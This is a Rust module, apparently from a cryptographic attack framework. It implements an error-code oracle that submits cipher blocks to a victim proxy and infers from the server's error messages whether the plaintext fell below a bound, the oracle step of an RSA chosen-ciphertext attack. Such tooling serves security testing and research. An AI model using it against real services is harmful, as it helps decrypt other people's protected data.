use crypto_bigint::{Encoding, Uint};
use tracing::{trace, warn};

use super::{ErrorPredicate, NonErrorPolicy, Oracle, OracleError, VictimProxy};
use crate::transport::Transport;

/// Oracle reading the answer off the error message the server returns.
pub struct ErrorCodeOracle<const LIMBS: usize, T: Transport> {
    proxy: VictimProxy<LIMBS, T>,
    less_than_b: ErrorPredicate,
    non_error_policy: NonErrorPolicy,
    queries: u64,
}

impl<const LIMBS: usize, T: Transport> ErrorCodeOracle<LIMBS, T>
where
    Uint<LIMBS>: Encoding,
{
    /// `less_than_b` decides from an error message whether the plaintext was below B
    pub fn new(proxy: VictimProxy<LIMBS, T>, less_than_b: ErrorPredicate) -> Self {
        Self {
            proxy,
            less_than_b,
            non_error_policy: NonErrorPolicy::default(),
            queries: 0,
        }
    }

    /// Oracle firing on one specific status code
    pub fn for_code(proxy: VictimProxy<LIMBS, T>, code: u32) -> Self {
        Self::new(proxy, Box::new(move |error| error.code == code))
    }

    pub fn with_non_error_policy(mut self, policy: NonErrorPolicy) -> Self {
        self.non_error_policy = policy;
        self
    }

    pub fn proxy(&self) -> &VictimProxy<LIMBS, T> {
        &self.proxy
    }
}

impl<const LIMBS: usize, T: Transport> Oracle for ErrorCodeOracle<LIMBS, T>
where
    Uint<LIMBS>: Encoding,
{
    fn check_validity(&mut self, block: &[u8]) -> Result<bool, OracleError> {
        self.queries += 1;
        let result = self.proxy.send_cipher_block(block)?;

        match result.response.error() {
            Some(error) => {
                let less = (self.less_than_b)(error);
                trace!(query = self.queries, code = error.code, less, "error code oracle");
                Ok(less)
            }
            None => match self.non_error_policy {
                NonErrorPolicy::AssumeLessThanB => {
                    warn!(query = self.queries, response = ?result.response, "no error message, assuming a valid decryption");
                    Ok(true)
                }
                NonErrorPolicy::Reject => Err(OracleError::AmbiguousResponse),
            },
        }
    }

    fn query_count(&self) -> u64 {
        self.queries
    }
}
